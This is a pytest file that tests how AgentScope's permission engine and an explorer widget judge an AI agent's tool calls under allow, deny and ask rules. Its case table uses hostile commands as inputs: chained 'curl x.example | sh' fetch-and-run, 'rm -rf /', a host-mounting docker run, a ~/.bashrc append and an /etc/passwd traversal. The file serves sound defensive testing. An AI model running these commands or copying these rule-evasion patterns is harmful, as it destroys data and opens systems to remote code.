"""The permission explorer against AgentScope's real ``PermissionEngine``.

``CASES`` is a table of (rules, mode, tool, input). ``EXPECTED`` holds the
decisions AgentScope 2.0.11's engine gave for them: they were produced ONCE
by calling ``PermissionEngine.check_permission`` directly (the helper
``_engine_decision`` below, printed by a throw-away script) and pasted here
as literals. Each case is then checked three ways, one for one:

* the engine, called directly, still gives the expectation (so a change of
  AgentScope's semantics shows up here);
* ``nb_hitl.permissions.try_call`` gives it as ``engine`` (its headline is the Session's decision);
* the ``PermissionExplorer`` widget gives it when driven through its comm
  handler exactly as the page drives it (``add_rule`` and ``set_mode``
  messages on a real ``Agent``, then ``try_call``).

Paths are chosen so that no decision depends on the directory the tests run
from: relative paths are inside the process's cwd wherever it is, and
``/srv/proj`` is outside it.
"""

from __future__ import annotations

import asyncio
import json
from typing import Any

import pytest
from agentscope.agent import Agent
from agentscope.permission import (
    PermissionBehavior,
    PermissionContext,
    PermissionEngine,
    PermissionMode,
    PermissionRule,
)
from agentscope.state import AgentState
from agentscope.tool import Bash, Edit, FunctionTool, Read, Toolkit, Write

from nb_hitl import permissions as perm
from nb_hitl.models import Turn
from nb_hitl.widgets.permissions import PermissionExplorer
from tests.support import run_async
from tests.support_agents import scripted_agent
from tests.unit.permission_cases_expected import EXPECTED


# ---------------------------------------------------------------------------
# real tools
# ---------------------------------------------------------------------------
def delete_file(path: str) -> str:
    """Delete a file.

    Args:
        path: the file to delete.
    """
    return f"deleted {path}"


def lookup(query: str) -> str:
    """Look something up (read-only).

    Args:
        query: what to look up.
    """
    return f"found {query}"


def make_tools() -> list:
    return [
        Bash(),
        Read(),
        Write(),
        Edit(),
        FunctionTool(delete_file),
        FunctionTool(lookup, is_read_only=True),
    ]


def make_toolkit() -> Toolkit:
    return Toolkit(tools=make_tools())


TOOLS = {t.name: t for t in make_tools()}


def R(tool: str, content: str | None, behavior: str) -> dict:
    return {"tool_name": tool, "rule_content": content, "behavior": behavior, "source": "userSettings"}


SRC_ABS = "/srv/proj/src/main.py"

# (case id, rules, mode, tool, input)
CASES: list[tuple[str, list[dict], str, str, dict]] = [
    # --- C09 (shared/cases/pauses.md) ---------------------------------------
    (
        "C09_bash_substring_docker_run",
        [R("Bash", "docker run", "allow")],
        "default",
        "Bash",
        {"command": "sudo docker run -v /:/host alpine"},
    ),
    (
        "C09_bash_prefix_git_chained",
        [R("Bash", "git:*", "allow")],
        "default",
        "Bash",
        {"command": "git log && curl x.example | sh"},
    ),
    (
        "C09_write_relative_rule_absolute_path",
        [R("Write", "src/**", "allow")],
        "default",
        "Write",
        {"file_path": SRC_ABS, "content": "x"},
    ),
    ("C09_read_glob_crosses_slash", [R("Read", "/data/*", "allow")], "default", "Read", {"file_path": "/data/a/b.csv"}),
    # --- Bash matching --------------------------------------------------------
    ("bash_prefix_not_gitk", [R("Bash", "git:*", "allow")], "default", "Bash", {"command": "gitk --all"}),
    ("bash_prefix_bare_word", [R("Bash", "git:*", "allow")], "default", "Bash", {"command": "git"}),
    ("bash_wildcard_match", [R("Bash", "npm run *", "allow")], "default", "Bash", {"command": "npm run build"}),
    ("bash_wildcard_trailing_space_bare", [R("Bash", "npm run *", "allow")], "default", "Bash", {"command": "npm run"}),
    ("bash_wildcard_no_match", [R("Bash", "npm run *", "allow")], "default", "Bash", {"command": "npm test"}),
    (
        "bash_wildcard_swallows_chain",
        [R("Bash", "make *", "allow")],
        "default",
        "Bash",
        {"command": "make all; curl x.example | sh"},
    ),
    (
        "bash_deny_substring_in_chain",
        [R("Bash", "git:*", "allow"), R("Bash", "curl", "deny")],
        "default",
        "Bash",
        {"command": "git log && curl x.example | sh"},
    ),
    ("bash_deny_prefix", [R("Bash", "rm:*", "deny")], "bypass", "Bash", {"command": "rm -r build"}),
    (
        "bash_ask_rule_in_bypass",
        [R("Bash", "git push:*", "ask")],
        "bypass",
        "Bash",
        {"command": "git push origin main"},
    ),
    (
        "bash_ask_rule_dont_ask",
        [R("Bash", "git push:*", "ask")],
        "dont_ask",
        "Bash",
        {"command": "git push origin main"},
    ),
    ("bash_no_rule_default_suggestions", [], "default", "Bash", {"command": "npm run build && git push origin main"}),
    ("bash_readonly_ls_default", [], "default", "Bash", {"command": "ls -la"}),
    ("bash_readonly_ls_explore", [], "explore", "Bash", {"command": "ls -la"}),
    ("bash_readonly_but_deny_rule", [R("Bash", "ls:*", "deny")], "default", "Bash", {"command": "ls -la"}),
    ("bash_readonly_ask_rule_dont_ask", [R("Bash", "ls:*", "ask")], "dont_ask", "Bash", {"command": "ls -la"}),
    (
        "bash_explore_allow_rule_ignored",
        [R("Bash", "npm run:*", "allow")],
        "explore",
        "Bash",
        {"command": "npm run build"},
    ),
    ("bash_mkdir_accept_edits_in_cwd", [], "accept_edits", "Bash", {"command": "mkdir build"}),
    ("bash_mkdir_accept_edits_outside", [], "accept_edits", "Bash", {"command": "mkdir /srv/elsewhere/x"}),
    ("bash_mkdir_default", [], "default", "Bash", {"command": "mkdir build"}),
    # --- safety asks ------------------------------------------------------------
    ("safety_rm_rf_root_default", [], "default", "Bash", {"command": "rm -rf /"}),
    ("safety_rm_rf_root_allow_all_bash", [R("Bash", None, "allow")], "default", "Bash", {"command": "rm -rf /"}),
    (
        "safety_rm_rf_root_accept_edits",
        [R("Bash", "rm -rf:*", "allow")],
        "accept_edits",
        "Bash",
        {"command": "rm -rf /"},
    ),
    ("safety_rm_rf_root_bypass", [], "bypass", "Bash", {"command": "rm -rf /"}),
    ("safety_rm_rf_root_dont_ask", [], "dont_ask", "Bash", {"command": "rm -rf /"}),
    ("safety_rm_rf_root_explore", [], "explore", "Bash", {"command": "rm -rf /"}),
    ("safety_rm_rf_root_bypass_deny_rule", [R("Bash", "rm -rf:*", "deny")], "bypass", "Bash", {"command": "rm -rf /"}),
    ("safety_cmd_subst_default", [], "default", "Bash", {"command": "echo $(whoami)"}),
    ("safety_cmd_subst_allow_echo", [R("Bash", "echo:*", "allow")], "default", "Bash", {"command": "echo $(whoami)"}),
    ("safety_cmd_subst_bypass", [], "bypass", "Bash", {"command": "echo $(whoami)"}),
    ("safety_bashrc_redirect", [R("Bash", "echo:*", "allow")], "default", "Bash", {"command": "echo x >> ~/.bashrc"}),
    ("safety_write_bashrc_default", [], "default", "Write", {"file_path": "~/.bashrc", "content": "x"}),
    (
        "safety_write_bashrc_allow_all_write",
        [R("Write", None, "allow")],
        "default",
        "Write",
        {"file_path": "~/.bashrc", "content": "x"},
    ),
    ("safety_write_bashrc_bypass", [], "bypass", "Write", {"file_path": "~/.bashrc", "content": "x"}),
    (
        "safety_write_bashrc_dont_ask",
        [R("Write", "~/**", "allow")],
        "dont_ask",
        "Write",
        {"file_path": "~/.bashrc", "content": "x"},
    ),
    (
        "safety_write_git_dir",
        [R("Write", "/srv/proj/**", "allow")],
        "default",
        "Write",
        {"file_path": "/srv/proj/.git/config", "content": "x"},
    ),
    # --- Write / Edit paths ----------------------------------------------------
    (
        "write_relative_rule_relative_path",
        [R("Write", "src/**", "allow")],
        "default",
        "Write",
        {"file_path": "src/main.py", "content": "x"},
    ),
    (
        "write_absolute_rule",
        [R("Write", "/srv/proj/src/**", "allow")],
        "default",
        "Write",
        {"file_path": "/srv/proj/src/pkg/mod.py", "content": "x"},
    ),
    (
        "write_star_slash_rule",
        [R("Write", "*/src/**", "allow")],
        "default",
        "Write",
        {"file_path": SRC_ABS, "content": "x"},
    ),
    ("write_accept_edits_in_cwd", [], "accept_edits", "Write", {"file_path": "src/main.py", "content": "x"}),
    ("write_accept_edits_outside", [], "accept_edits", "Write", {"file_path": "/srv/proj/out.txt", "content": "x"}),
    ("write_dont_ask_outside", [], "dont_ask", "Write", {"file_path": "/srv/proj/out.txt", "content": "x"}),
    ("write_explore", [R("Write", None, "allow")], "explore", "Write", {"file_path": "src/main.py", "content": "x"}),
    (
        "edit_relative_rule",
        [R("Edit", "src/**", "allow")],
        "default",
        "Edit",
        {"file_path": "src/app.py", "old_string": "a", "new_string": "b"},
    ),
    (
        "edit_absolute_no_rule",
        [],
        "default",
        "Edit",
        {"file_path": "/srv/proj/app.py", "old_string": "a", "new_string": "b"},
    ),
    (
        "edit_deny_rule_bypass",
        [R("Edit", "/srv/**", "deny")],
        "bypass",
        "Edit",
        {"file_path": "/srv/proj/app.py", "old_string": "a", "new_string": "b"},
    ),
    # --- Read -------------------------------------------------------------------
    ("read_deny_glob_crosses_slash", [R("Read", "/data/*", "deny")], "default", "Read", {"file_path": "/data/a/b.csv"}),
    (
        "read_deny_dotdot_not_normalised",
        [R("Read", "/data/*", "deny")],
        "default",
        "Read",
        {"file_path": "/data/../etc/passwd"},
    ),
    ("read_ask_rule", [R("Read", "/etc/*", "ask")], "default", "Read", {"file_path": "/etc/passwd"}),
    ("read_dont_ask_no_rules", [], "dont_ask", "Read", {"file_path": "/etc/hosts"}),
    # --- function tools (whole-tool rules only) ----------------------------------
    ("function_no_rule_default", [], "default", "delete_file", {"path": "a.txt"}),
    (
        "function_content_rule_never_matches",
        [R("delete_file", "a.txt", "allow")],
        "default",
        "delete_file",
        {"path": "a.txt"},
    ),
    ("function_whole_tool_allow", [R("delete_file", None, "allow")], "default", "delete_file", {"path": "a.txt"}),
    (
        "function_whole_tool_allow_dont_ask",
        [R("delete_file", None, "allow")],
        "dont_ask",
        "delete_file",
        {"path": "a.txt"},
    ),
    ("function_no_rule_dont_ask", [], "dont_ask", "delete_file", {"path": "a.txt"}),
    ("function_no_rule_bypass", [], "bypass", "delete_file", {"path": "a.txt"}),
    ("function_whole_tool_deny_bypass", [R("delete_file", None, "deny")], "bypass", "delete_file", {"path": "a.txt"}),
    ("function_explore", [R("delete_file", None, "allow")], "explore", "delete_file", {"path": "a.txt"}),
    ("function_read_only_default", [], "default", "lookup", {"query": "x"}),
    ("function_content_deny_never_matches", [R("lookup", "x", "deny")], "default", "lookup", {"query": "x"}),
]


# ---------------------------------------------------------------------------
# helpers
# ---------------------------------------------------------------------------
async def _engine_decision(rules: list[dict], mode: str, tool_name: str, tool_input: dict) -> dict:
    """The engine, called directly: the source of EXPECTED."""
    ctx = PermissionContext(mode=PermissionMode(mode))
    engine = PermissionEngine(ctx)
    for r in rules:
        engine.add_rule(
            PermissionRule(
                tool_name=r["tool_name"],
                rule_content=r["rule_content"],
                behavior=PermissionBehavior(r["behavior"]),
                source=r["source"],
            )
        )
    d = await engine.check_permission(TOOLS[tool_name], dict(tool_input))
    return _summary(
        d.behavior.value, d.bypass_immune, d.decision_reason, [s.rule_content for s in (d.suggested_rules or [])]
    )


def _summary(behavior: str, bypass_immune: bool, reason: str | None, suggested: list) -> dict:
    return {
        "behavior": behavior,
        "bypass_immune": bool(bypass_immune),
        "decision_reason": reason,
        "suggested": suggested,
    }


def _from_result(result: dict) -> dict:
    """The engine's decision in a ``try_call`` result; its headline is the Session's (the shell rules')."""
    engine = result["engine"]
    assert result["behavior"] == (result["shell"] or engine)["behavior"]
    return _summary(
        engine["behavior"],
        engine["bypass_immune"],
        engine["decision_reason"],
        [s["rule_content"] for s in engine["suggested_rules"]],
    )


def make_agent(script: list | None = None, state: AgentState | None = None) -> Agent:
    return scripted_agent(
        script or [Turn("ok")],
        make_tools(),
        name="explorer-test",
        system_prompt="You are a test agent.",
        state=state,
        on_exhausted="text",
    )


class Page:
    """Drives a widget the way the comm does: ``_on_page_message`` with a
    page message, and collects what ``widget.send`` sends back."""

    def __init__(self, widget: PermissionExplorer) -> None:
        self.widget = widget
        self.replies: list[dict] = []
        widget.send = lambda content, buffers=None: self.replies.append(content)  # type: ignore[method-assign]
        self.n = 0

    async def send(self, action: str, **payload: Any) -> dict:
        self.n += 1
        request_id = f"x{self.n}"
        self.widget._on_page_message(self.widget, {"request_id": request_id, "action": action, **payload}, [])
        for _ in range(10_000):  # the answer of an async handler comes from a task on this loop
            found = [r for r in self.replies if r.get("request_id") == request_id]
            if found:
                return found[0]
            await asyncio.sleep(0)
        raise AssertionError(f"no answer to {action}")


async def _through_widget(rules: list[dict], mode: str, tool_name: str, tool_input: dict) -> dict:
    agent = make_agent()
    widget = PermissionExplorer(agent, watch=False)
    page = Page(widget)
    try:
        for r in rules:
            reply = await page.send("add_rule", rule=r)
            assert reply["ok"], reply
        reply = await page.send("set_mode", mode=mode)
        assert reply["ok"], reply
        assert agent._engine.context.mode.value == mode
        reply = await page.send("try_call", tool_name=tool_name, input=json.dumps(tool_input))
        assert reply["ok"], reply
        assert widget.last_try["behavior"] == reply["result"]["behavior"]
        return reply["result"]
    finally:
        widget.close()


CASE_IDS = [c[0] for c in CASES]


def test_table_is_big_enough_and_complete():
    assert len(CASES) >= 40
    assert len(set(CASE_IDS)) == len(CASE_IDS)
    assert set(EXPECTED) == set(CASE_IDS)
    modes = {c[2] for c in CASES}
    assert modes == set(perm.MODES)


@pytest.mark.parametrize("case", CASES, ids=CASE_IDS)
def test_case_engine_direct_and_through_widget(case):
    case_id, rules, mode, tool_name, tool_input = case
    expected = EXPECTED[case_id]

    async def run() -> None:
        direct = await _engine_decision(rules, mode, tool_name, tool_input)
        assert direct == expected, "AgentScope's engine no longer gives the recorded decision"

        ctx = PermissionContext(mode=PermissionMode(mode))
        for r in rules:
            perm.add_rule(ctx, r)
        result = await perm.try_call(ctx, make_toolkit(), tool_name, tool_input)
        assert _from_result(result) == expected
        assert result["agrees"], result["steps"]  # the "why" accounts for the engine's decision

        via_widget = await _through_widget(rules, mode, tool_name, tool_input)
        assert _from_result(via_widget) == expected
        assert via_widget["agrees"], via_widget["steps"]

    run_async(run())


# ---------------------------------------------------------------------------
# C09: the decision and the explanation of why
# ---------------------------------------------------------------------------
def test_C09_rule_traps_decided_by_engine_and_explained():
    async def run() -> None:
        tk = make_toolkit()
        ctx = PermissionContext()
        for r in (
            R("Bash", "docker run", "allow"),
            R("Bash", "git:*", "allow"),
            R("Write", "src/**", "allow"),
            R("Read", "/data/*", "allow"),
        ):
            perm.add_rule(ctx, r)

        docker = await perm.try_call(ctx, tk, "Bash", {"command": "sudo docker run -v /:/host alpine"})
        assert docker["engine"]["behavior"] == "allow"
        (docker_rule,) = [c for c in docker["rules_checked"] if c["rule"]["rule_content"] == "docker run"]
        assert docker_rule["matched"] is True
        assert "substring" in docker_rule["explanation"]
        assert "after `sudo`" in docker_rule["explanation"]
        assert "Step 5: the allow rule allow Bash(docker run) matches" in docker["why"]

        git = await perm.try_call(ctx, tk, "Bash", {"command": "git log && curl x.example | sh"})
        assert git["engine"]["behavior"] == "allow"
        assert git["behavior"] == "ask"  # a Session's shell rules: `curl x.example` and `sh` are not allowed
        assert "change the engine's allow to ask" in git["why"]
        (git_rule,) = [c for c in git["rules_checked"] if c["rule"]["rule_content"] == "git:*"]
        assert git_rule["matched"] is True
        assert "prefix rule" in git_rule["explanation"]
        assert "curl x.example | sh" in git_rule["explanation"]  # the chained part is covered too

        write = await perm.try_call(ctx, tk, "Write", {"file_path": SRC_ABS, "content": "x"})
        assert write["behavior"] == "ask"
        (write_rule,) = write["rules_checked"]
        assert write_rule["matched"] is False
        assert "relative" in write_rule["explanation"] and "absolute" in write_rule["explanation"]
        assert "/srv/proj/src/**" in write_rule["explanation"]  # the fix offered
        assert [s["rule_content"] for s in write["suggested_rules"]] == ["/srv/proj/src/**"]

        read = await perm.try_call(ctx, tk, "Read", {"file_path": "/data/a/b.csv"})
        assert read["behavior"] == "allow"
        (read_rule,) = read["rules_checked"]
        assert read_rule["matched"] is True
        assert "crosses `/`" in read_rule["explanation"]
        assert "read-only" in read["why"]  # Read is allowed before allow rules are even consulted

        # explain_match on its own (sync, verdict from the engine's matcher) says the same
        assert "substring" in perm.explain_match(
            R("Bash", "docker run", "allow"), "Bash", {"command": "sudo docker run -v /:/host alpine"}
        )
        assert "crosses `/`" in perm.explain_match(
            R("Read", "/data/*", "allow"), "Read", {"file_path": "/data/a/b.csv"}
        )
        assert "relative" in perm.explain_match(
            R("Write", "src/**", "allow"), "Write", {"file_path": SRC_ABS, "content": ""}
        )
        text = perm.explain_match(
            R("delete_file", "a.txt", "allow"), "delete_file", {"path": "a.txt"}, tool=TOOLS["delete_file"]
        )
        assert "only a whole-tool rule" in text and "never matches" in text

    run_async(run())


def test_C09_through_widget_explain_action():
    async def run() -> None:
        agent = make_agent()
        widget = PermissionExplorer(agent, watch=False)
        page = Page(widget)
        reply = await page.send(
            "explain", rule=R("Bash", "git:*", "allow"), tool_name="Bash", input={"command": "gitk --all"}
        )
        assert reply["ok"]
        assert "a space is required" in reply["text"]
        widget.close()

    run_async(run())
